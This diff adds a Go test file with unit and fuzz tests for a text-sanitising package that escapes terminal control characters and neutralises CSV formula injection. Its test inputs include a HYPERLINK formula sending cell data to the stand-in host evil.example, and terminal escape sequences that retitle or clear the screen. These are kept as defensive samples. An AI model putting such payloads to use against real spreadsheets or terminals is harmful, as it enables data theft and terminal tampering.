@@ -1,0 +1,81 @@
+package textsafe
+
+import "testing"
+
+func TestTerminalEscapesControlCharacters(t *testing.T) {
+	cases := map[string]string{
+		"plain":           "plain",
+		"Zoë Ångström 日本": "Zoë Ångström 日本",
+		"\x1b]0;pwned\a":  `\x1b]0;pwned\x07`,
+		"\x1b[2J":         `\x1b[2J`,
+		"a\nb\tc\rd":      `a\nb\tc\rd`,
+		"del\x7f":         `del\x7f`,
+		"csi\u009b2J":     `csi\u009b2J`,
+		"bad\xffutf8":     `bad\xffutf8`,
+		"nul\x00":         `nul\x00`,
+		"":                "",
+	}
+	for in, want := range cases {
+		if got := Terminal(in); got != want {
+			t.Errorf("Terminal(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestCSVCellNeutralisesFormulas(t *testing.T) {
+	cases := map[string]string{
+		`=HYPERLINK("http://evil.example/?"&F2,"open")`: `'=HYPERLINK("http://evil.example/?"&F2,"open")`,
+		"+1":       "'+1",
+		"-2":       "'-2",
+		"@SUM(A1)": "'@SUM(A1)",
+		"\tx":      "'\tx",
+		"\rx":      "'\rx",
+		"jdoe":     "jdoe",
+		"'quoted":  "'quoted",
+		"'=x":      "''=x",
+		"''":       "'''",
+		"'":        "'",
+		"":         "",
+		"a=b":      "a=b",
+	}
+	for in, want := range cases {
+		if got := CSVCell(in); got != want {
+			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestCSVCellRoundTrips(t *testing.T) {
+	for _, s := range []string{"", "'", "''", "'''", "'=", "=", "=1+2", "'a", "a'", "-", "@", "'-5", "x"} {
+		if got := CSVUncell(CSVCell(s)); got != s {
+			t.Errorf("CSVUncell(CSVCell(%q)) = %q", s, got)
+		}
+	}
+}
+
+func FuzzCSVCellRoundTrip(f *testing.F) {
+	for _, s := range []string{"", "=cmd", "'=x", "''", "plain", "-1"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		c := CSVCell(s)
+		if c != "" && formulaStart(c[0]) {
+			t.Fatalf("CSVCell(%q) = %q still starts a formula", s, c)
+		}
+		if got := CSVUncell(c); got != s {
+			t.Fatalf("round trip of %q gave %q", s, got)
+		}
+	})
+}
+
+func FuzzTerminalHasNoControlBytes(f *testing.F) {
+	for _, s := range []string{"", "\x1b[2J", "\u009b", "ok", "\xff"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		out := Terminal(s)
+		if hasC1OrInvalid(out) {
+			t.Fatalf("Terminal(%q) = %q still holds a control character", s, out)
+		}
+	})
+}
